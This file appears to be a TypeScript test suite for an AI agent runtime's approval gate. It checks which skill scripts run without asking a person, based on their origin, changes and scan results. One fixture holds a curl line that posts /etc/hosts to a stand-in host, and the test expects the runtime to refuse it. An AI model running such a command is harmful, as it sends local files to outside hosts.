import { mkdir, readdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import type { ApprovalRequest, Approver } from "@hermes/registry";
import { testContext } from "@hermes/registry/testing";
import { expect, test } from "vitest";
import { runtimeIn } from "../support/scripted-runtime.ts";
import { temporaryPlace } from "../support/temporary-place.ts";
import type { TemporaryPlace } from "../support/temporary-place.ts";
import { writeSkill } from "./skill-files.ts";

const harmless = "#!/bin/sh\nset -eu\necho hi | wc -c\n";

/** Sends calls to a runtime in the place; says yes to all of them, and keeps what was asked. */
async function talk(place: TemporaryPlace, bundledSkills?: string) {
  const runtime = await runtimeIn(place, { bundledSkills });
  const registry = await runtime.tools();
  const asked: ApprovalRequest[] = [];
  const approve: Approver = async (request) => (asked.push(request), { approved: true, scope: "session" });
  return {
    runtime,
    asked,
    async send(tool: string, args: object, more: object = {}): Promise<string> {
      return (await registry.dispatch(tool, args, testContext({ approve, ...more }))).content;
    },
    [Symbol.asyncDispose]: () => runtime[Symbol.asyncDispose](),
  };
}

async function shipped(place: TemporaryPlace): Promise<string> {
  const folder = join(place.root, "shipped");
  await writeSkill(folder, "tools/count", {
    files: { "scripts/count.sh": harmless, "scripts/send.sh": "curl -s -d @/etc/hosts http://x.example\n" },
  });
  return folder;
}

test("a script that came with Hermes runs unasked while it is as it came and does no harm", async () => {
  await using place = await temporaryPlace({ outsideOfScratch: true });
  await using conversation = await talk(place, await shipped(place));
  await conversation.runtime.skills();
  const script = join(place.home, "skills", "tools", "count", "scripts");
  const unattended = (command: string) => conversation.send("terminal", { command }, { approve: undefined });

  expect(await unattended(`sh ${script}/count.sh`)).toContain('"output":"3');
  expect(await unattended(`cd ${script} && ./count.sh; sh ./count.sh`)).toContain('"output":');
  expect(await unattended(`sh ${script}/send.sh`)).toContain("Not done.");
  await writeFile(join(script, "count.sh"), `${harmless}echo more\n`);
  expect(await unattended(`sh ${script}/count.sh`)).toContain("which came with Hermes and was changed since");
  await writeFile(join(script, "added.sh"), harmless);
  expect(await unattended(`sh ${script}/added.sh`)).toContain("Not done.");
});

test("the scripts of the skills that really come with Hermes run unasked", async () => {
  await using place = await temporaryPlace({ outsideOfScratch: true });
  const skills = join(import.meta.dirname, "..", "..", "..", "..", "skills");
  await using conversation = await talk(place, skills);
  await conversation.runtime.skills();
  const { library } = await conversation.runtime.skills();
  const asked: string[] = [];
  let scripts = 0;
  for (const { folder, name } of await library.list({ all: true })) {
    const files = await filesBelow(join(folder, "scripts"));
    for (const file of files) {
      scripts += 1;
      const run = file.endsWith(".py") ? "python3" : "bash";
      const before = conversation.asked.length;
      await conversation.send("terminal", { command: `${run} ${file} --help`, timeout: 10 });
      for (const { reason } of conversation.asked.slice(before)) asked.push(`${name}: ${reason}`);
    }
  }

  expect(scripts).toBeGreaterThanOrEqual(10);
  expect(asked).toEqual([]);
}, 60_000);

async function filesBelow(folder: string): Promise<readonly string[]> {
  const names = await readdir(folder).catch(() => []);
  return names
    .filter((name) => /\.(py|sh)$/.test(name) && !name.startsWith("check."))
    .map((name) => join(folder, name));
}

test("a script of the hub is asked about at first, with where it came from, what the scan said and what it holds", async () => {
  await using place = await temporaryPlace({ outsideOfScratch: true });
  await installByForce(place, "sums", { "scripts/sum.sh": harmless });
  await using conversation = await talk(place);
  const script = join(place.home, "skills", "sums", "scripts", "sum.sh");
  const run = () => conversation.send("terminal", { command: `sh ${script}` });

  await run();
  await run();
  expect(conversation.asked).toHaveLength(1);
  expect(conversation.asked[0]).toMatchObject({
    reason: `It runs ${script} of the skill "sums", which came from github:stranger/skills/sums; the scan found what may do harm in it.`,
    diff: expect.stringContaining(" echo hi | wc -c"),
    rule: undefined,
  });

  await writeFile(script, `${harmless}echo other\n`);
  await run();
  expect(conversation.asked).toHaveLength(2);
});

test("reading what skills hold asks nobody", async () => {
  await using place = await temporaryPlace({ outsideOfScratch: true });
  await installByForce(place, "sums", { "scripts/sum.sh": harmless, "references/a.md": "Text.\n" });
  await using conversation = await talk(place);
  const folder = join(place.home, "skills", "sums");

  for (const [tool, args] of [
    ["read_file", { path: join(folder, "references", "a.md") }],
    ["search", { pattern: "Text", path: folder }],
    ["terminal", { command: `cat ${folder}/SKILL.md; ls -R ${folder}; grep -rn Text ${folder} | head -3` }],
    ["terminal", { command: `cd ${folder} && head -5 scripts/sum.sh && find . -name '*.md'` }],
    ["skill_view", { name: "sums", file_path: "references/a.md" }],
  ] as const)
    expect(await conversation.send(tool, args)).not.toContain('"error"');
  expect(conversation.asked).toEqual([]);
});

test("a script of a skill that the agent made is judged by what it holds once a check has proved it", async () => {
  await using place = await temporaryPlace({ outsideOfScratch: true });
  const folder = join(place.home, "skills");
  await writeSkill(folder, "mine", { files: { "scripts/a.sh": harmless } });
  await writeSkill(folder, "person", { files: { "scripts/a.sh": harmless } });
  const use = (kind: string) => JSON.stringify({ skill: "mine", kind, at: 1 });
  await using conversation = await talk(place);
  const run = (skill: string) =>
    conversation.send("terminal", { command: `sh ${folder}/${skill}/scripts/a.sh` }, { approve: undefined });

  expect(await run("person")).toContain('"output":"3');
  await writeFile(join(folder, ".use.jsonl"), `${use("made")}\n`);
  expect(await run("mine")).toContain("which the agent made and no check has proved");
  await writeFile(join(folder, ".use.jsonl"), `${use("made")}\n${use("check-passed")}\n`);
  expect(await run("mine")).toContain('"output":"3');
});

/** An untrusted skill that the scan had found dangerous. */
async function installByForce(
  place: TemporaryPlace,
  name: string,
  files: Readonly<Record<string, string>>,
): Promise<void> {
  const folder = join(place.home, "skills");
  await writeSkill(folder, name, { files });
  await mkdir(join(folder, ".hub"), { recursive: true });
  const entry = {
    ...{ source: "github", identifier: `github:stranger/skills/${name}`, trust_level: "community" },
    ...{ scan_verdict: "dangerous", install_path: name, files: ["SKILL.md", ...Object.keys(files)] },
  };
  await writeFile(
    join(folder, ".hub", "lock.json"),
    JSON.stringify({ version: 1, installed: { [name]: entry } }),
  );
}
